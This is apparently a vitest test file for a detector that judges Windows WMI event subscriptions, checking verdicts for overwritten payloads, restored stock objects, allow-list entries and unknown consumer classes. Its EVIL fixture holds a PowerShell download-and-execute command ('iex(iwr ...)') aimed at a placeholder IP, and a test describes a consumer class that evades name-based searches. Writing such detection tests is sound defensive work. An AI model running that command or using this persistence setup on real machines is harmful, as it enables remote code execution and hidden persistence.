import { expect, test } from 'vitest'
import { activation, investigate, type Triad } from '../records.suite.ts'
import { judge } from './index.ts'

const SERVICE = "SELECT * FROM __InstanceModificationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_Service'"
const HARMLESS: Triad = {
  filter: 'Acme',
  query: SERVICE,
  consumerClass: 'CommandLineEventConsumer',
  consumer: 'Acme',
  properties: 'CommandLineTemplate = "C:\\\\Tools\\\\a.exe";',
}
const EVIL: Triad = {
  ...HARMLESS,
  properties: 'CommandLineTemplate = "powershell -c iex(iwr http://203.0.113.9/x)";',
}
const SCM: Triad = {
  filter: 'SCM Event Log Filter',
  query: 'select * from MSFT_SCMEventLogEvent',
  consumerClass: 'NTEventLogEventConsumer',
  consumer: 'SCM Event Log Consumer',
  properties: 'SourceName = "Service Control Manager";\n\tNameOfUserSIDProperty = "sid";\n\tEventType = 1;',
}

function judged(...days: readonly Triad[]) {
  const records = days.map((triad, day) => activation(triad, { time: `2024-05-0${day + 1}T10:00:00Z` }))
  const { subscriptions } = investigate(records)
  expect(subscriptions).toHaveLength(1)
  return subscriptions.map((facts) => judge(facts))[0]
}

test('a payload that was overwritten with something harmless still counts, and the sum stays the sum', () => {
  for (const judgement of [judged(EVIL, HARMLESS), judged(HARMLESS, EVIL, HARMLESS)]) {
    expect(judgement).toMatchObject({ verdict: 'malicious', severity: 'critical' })
    const reason = judgement?.reasons.find(({ id }) => id === 'rule/earlier-content')
    expect(reason?.text).toContain('fetches hxxp[:]//203[.]0[.]113[.]9/x')
    expect(reason?.text).toContain('2024-05-0')
    expect(judgement?.reasons.reduce((sum, { weight }) => sum + weight, 0)).toBe(judgement?.score)
    expect(judgement?.explanation.action).toBe('runs C:\\Tools\\a.exe as SYSTEM')
  }
})

test('a stock object that was put back had been another one', () => {
  const judgement = judged(SCM, { ...SCM, query: 'select * from Win32_ProcessStartTrace' }, SCM)
  expect(judgement).toMatchObject({ verdict: 'malicious', severity: 'high' })
  expect(judged(SCM, SCM, SCM)).toMatchObject({ verdict: 'known-good', severity: 'informational' })
})

test('what is worse now needs no word about what was before', () => {
  expect(judged(HARMLESS, EVIL)?.reasons.map(({ id }) => id)).not.toContain('rule/earlier-content')
  const moved = { ...HARMLESS, properties: 'CommandLineTemplate = "C:\\\\Tools\\\\b.exe";' }
  expect(judged(HARMLESS, moved)?.reasons.map(({ id }) => id)).not.toContain('rule/earlier-content')
})

test('the former version of what a team allowed does not undo the allowance, a former implant does', () => {
  const moved = { ...HARMLESS, properties: 'CommandLineTemplate = "agent.exe";' }
  const verdict = (...days: readonly Triad[]) => {
    const records = days.map((triad, day) => activation(triad, { time: `2024-05-0${day + 1}T10:00:00Z` }))
    const [facts] = investigate(records).subscriptions
    const fingerprint = facts === undefined ? undefined : judge(facts).fingerprint
    if (facts === undefined || fingerprint === undefined) return undefined
    const entry = { fingerprint, title: 't', owner: 'IT', reason: 'agent', expires: '2030-01-01' }
    return judge(facts, { allow: { source: 'allow.yaml', entries: [entry] }, now: '2024-06-01T00:00:00Z' })
      .verdict
  }
  expect(verdict(moved, HARMLESS)).toBe('known-good')
  expect(verdict(EVIL, HARMLESS)).toBe('malicious')
})

test('an unknown class tells what it is set up with, and whose class it is made after', () => {
  const facts = investigate([
    activation({
      ...HARMLESS,
      consumerClass: 'AcmeConsumer',
      properties: 'Command = "C:\\\\Users\\\\Public\\\\a.exe";',
    }),
  ]).subscriptions
  expect(facts.map((one) => judge(one).explanation.action)).toEqual([
    'is carried out by a part called AcmeConsumer that is not one of Windows\' own; what it does is not known, and it may run code as SYSTEM; it is set up with Command "C:\\Users\\Public\\a.exe"',
  ])
  const derived = facts.map((one) => ({
    ...one,
    consumer: {
      class: 'AcmeConsumer',
      properties: { CommandLineTemplate: 'C:\\Tools\\a.exe' },
      superclasses: ['CommandLineEventConsumer', '__EventConsumer'],
    },
  }))
  expect(derived.map((one) => judge(one).reasons[0]?.text)).toEqual([
    "The consumer's class AcmeConsumer is made after CommandLineEventConsumer, so that searches for that name miss it",
  ])
})
